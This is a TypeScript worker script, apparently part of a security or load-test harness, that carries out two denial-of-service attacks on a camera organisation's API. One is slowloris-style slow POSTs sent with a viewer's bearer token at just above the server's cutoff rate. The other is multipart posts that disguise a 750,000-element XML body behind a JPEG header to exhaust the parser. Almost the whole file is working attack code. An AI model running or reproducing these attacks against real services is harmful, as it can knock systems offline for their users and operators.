import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { parentPort, workerData } from 'node:worker_threads'

export interface Attack {
  kind: 'slow posts' | 'XML posts'
  url: string
  /** Of a VIEWER. */
  key: string
  /** Where cameras of the organisation post. */
  endpoints: string[]
}

const slowPosts = 14
const slowBody = 20_000
/** Just above the rate at which a body is cut off. */
const bytesPerSecond = 600
const xmlPosts = 15

const { kind, url, key, endpoints } = workerData as Attack
const { hostname, port } = new URL(url)

/** Bodies that arrive as slowly as they may, one after the other. */
async function sendSlowly(): Promise<never> {
  for (;;) {
    const socket: Socket = connect(Number(port), hostname).on('error', () => undefined)
    socket.write(
      `POST /api/v1/views HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${key}\r\ncontent-type: application/json\r\ncontent-length: ${slowBody}\r\n\r\n`,
    )
    for (let sent = 0; sent < slowBody && socket.writable; sent += bytesPerSecond / 10) {
      socket.write(' '.repeat(bytesPerSecond / 10))
      await sleep(100)
    }
    socket.destroy()
  }
}

/** A form with XML that takes long, behind the opening of a picture. */
const xmlBody = Buffer.concat([
  Buffer.from('ffd8ffe000104a4649460001', 'hex'),
  Buffer.from('\r\n--b\r\nContent-Disposition: form-data; name="event"\r\nContent-Type: text/xml\r\n\r\n'),
  Buffer.from(`<a>${'<b/>'.repeat(750_000)}</a>`),
  Buffer.from('\r\n--b--\r\n'),
])

let answered = 0
async function sendXml(first: number): Promise<never> {
  const headers = { 'content-type': 'multipart/form-data; boundary=b' }
  for (let turn = first; ; turn++) {
    const target = endpoints[turn % endpoints.length]!
    const answer = await fetch(target, { method: 'POST', headers, body: xmlBody }).catch(() => undefined)
    await answer?.arrayBuffer().catch(() => undefined)
    answered++
    if (!answer || answer.status === 429 || answer.status === 503) await sleep(100)
  }
}

const count = kind === 'slow posts' ? slowPosts : xmlPosts
for (let index = 0; index < count; index++) void (kind === 'slow posts' ? sendSlowly() : sendXml(index))
parentPort!.on('message', () => parentPort!.postMessage(answered, []))
